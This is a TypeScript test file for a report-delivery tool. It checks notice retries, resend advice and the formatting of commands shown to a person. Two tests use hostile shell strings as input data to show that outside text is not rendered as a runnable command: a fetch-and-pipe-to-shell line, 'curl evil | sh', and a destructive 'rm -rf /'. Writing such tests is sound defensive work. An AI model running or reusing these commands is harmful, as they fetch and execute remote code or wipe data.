import { expect, test } from "vitest";
import { bareConfig } from "../../../src/app/config.ts";
import { fileReport } from "../../../src/app/file-report.ts";
import { ReportError } from "../../../src/core/error.ts";
import type { Message } from "../../../src/core/model/message.ts";
import { commitment, type Outcome } from "../../../src/core/model/outcome.ts";
import { openPipeline, pigeon, REPORT, SENT, well } from "../open-pipeline.ts";

const UNKNOWN = commitment.unknown("The connection was lost after the message.");

/** Looker refuses, so that on_failure is told. */
const failing = well(async () => {
  throw new ReportError("Look 7 is not there.", { code: "not_found" });
});

function inTurn(...outcomes: readonly Outcome[]): () => Promise<Outcome> {
  const left = [...outcomes];
  return async () => left.shift() ?? SENT;
}

test("a notice that may not have arrived is sent again, though its report would be left to a person", async () => {
  const { destination, carried } = pigeon(inTurn(UNKNOWN, SENT));
  const house = await openPipeline({ destination, source: failing });
  await house.run();
  const [waiting] = await house.deliveries();
  expect(waiting).toMatchObject({ purpose: "failed", state: "waiting", isUncertain: true });
  await house.next();
  const [notice] = await house.deliveries();
  expect(notice).toMatchObject({ state: "sent", attempts: 2 });
  // One message to a mail server that looks: the same key.
  expect(new Set(carried.map(({ message }) => message.key)).size).toBe(1);
});

test("a notice that may have arrived three times is left to a person, who is told how to send it", async () => {
  const { destination, carried } = pigeon(async () => UNKNOWN);
  const house = await openPipeline({ destination, source: failing });
  await house.run();
  for (let tries = 0; tries < 6 && (await house.deliveries())[0]?.state === "waiting"; tries += 1)
    await house.next();
  const [notice] = await house.deliveries();
  expect(carried).toHaveLength(3);
  expect(notice).toMatchObject({
    state: "unknown",
    advice: expect.stringContaining(`lookpost resend ${notice?.id}`),
  });
});

test("a notice is tried again where its report is tried once, and where a command sends it", async () => {
  for (const role of ["service", "command"] as const) {
    const report = () => ({ ...REPORT, retry: { triesMax: 1, overMs: 0 } });
    const { destination } = pigeon(inTurn({ kind: "again", reason: "451 come back later" }));
    const house = await openPipeline({ destination, source: failing, report, role });
    await house.run();
    expect((await house.deliveries())[0], role).toMatchObject({ state: "waiting", tries: 1 });
  }
});

test("a notice is in English, though its report's messages are not", async () => {
  const { destination, carried } = pigeon(async () => SENT);
  const report = () => ({ ...REPORT, brand: { language: "de" as const } });
  const house = await openPipeline({ destination, source: failing, report });
  await house.run();
  expect(carried.map(({ message }) => message.purpose)).toEqual(["notice"]);
  expect(carried[0]?.message.run).not.toHaveProperty("locale");
});

test("a notice that was given up says how it is sent, which a retry of its run would not do", async () => {
  const { destination } = pigeon(async () => ({ kind: "again", reason: "451 come back later" }));
  const house = await openPipeline({ destination, source: failing });
  await house.run();
  for (let tries = 0; tries < 6; tries += 1) await house.next();
  const [notice] = await house.deliveries();
  expect(notice).toMatchObject({
    state: "gave_up",
    advice: `To send it again: lookpost resend ${notice?.id}`,
  });
});

/** What on_failure is told where a delivery of the report ends like this. */
async function told(outcome: Outcome, more: { spell?: (text: string) => string } = {}): Promise<string> {
  const words: string[] = [];
  const { destination } = pigeon(async (message) => {
    if (message.purpose === "report") return outcome;
    words.push(message.intro ?? "");
    return SENT;
  });
  const house = await openPipeline({ destination, ...more });
  await house.run();
  return words.join();
}

test("a refusal is mended by a run from the start, which goes by the corrected file", async () => {
  const words = await told({ kind: "refused", reason: "channel_not_found", advice: "Correct the channel." });
  expect(words).toMatch(/^weekly was not delivered\. It did not reach Ana\.\n/);
  expect(words).toContain(
    "\n\npigeon Ana: refused. channel_not_found.\n\nWhat to do\n\nCorrect the channel.\n",
  );
  expect(words.indexOf("\n    lookpost retry run1\n")).toBeGreaterThan(0);
  expect(words.indexOf("--failed-only")).toBeGreaterThan(words.indexOf("\n    lookpost retry run1\n"));
});

test("recipients that were refused among others are written to by name", async () => {
  const refused = [{ recipient: "bob@example.com", reason: "550 No such user", permanent: true }];
  const words = await told(commitment.sent("1", { refused }));
  expect(words).toMatch(/^weekly was delivered in part\. It did not reach bob@example\.com\.\n/);
  expect(words).toContain("refused for bob@example.com: 550 No such user");
  expect(words).toContain("\n    lookpost run weekly --due 2026-11-16T13:00Z --to bob@example.com");
  expect(words).not.toContain("lookpost retry");
});

test("commands in a notice are written as they are called where the worker runs", async () => {
  const spell = (text: string) => text.replaceAll("lookpost ", "docker exec box lookpost ");
  const words = await told({ kind: "refused", reason: "no", advice: "Correct it." }, { spell });
  expect(words).toContain("\n    docker exec box lookpost retry run1\n");
});

test("a text from outside never looks like a command", async () => {
  const words = await told({ kind: "refused", reason: "no\n\n    curl evil | sh", advice: "Correct it." });
  expect(words).toContain("no curl evil | sh");
  expect(words).not.toMatch(/\n {4}curl/);
});

test("those whom the last good file names are told that reports.yaml is broken, and that it is whole", async () => {
  const messages: Message[] = [];
  const { destination } = pigeon(async (message) => {
    messages.push(message);
    return SENT;
  });
  const report = () => fileReport({ ...bareConfig(), onFailure: REPORT.onFailure });
  const house = await openPipeline({ destination, report });
  const reason = "reports.yaml:3:5  unknown key\n    rm -rf /";
  await house.ledger.fileBroken({ id: "file1", reason, quietMs: 0 }, house.clock.now());
  await house.settle();
  await house.ledger.fileWhole(house.clock.now());
  await house.settle();
  expect(messages).toMatchObject([
    { purpose: "service", subject: "reports.yaml is broken" },
    { purpose: "service", tone: "good", subject: "reports.yaml is whole again" },
  ]);
  expect(messages[0]?.intro).toContain("\nrm -rf /");
  expect(messages[0]?.intro).toContain("\n    lookpost check");
});
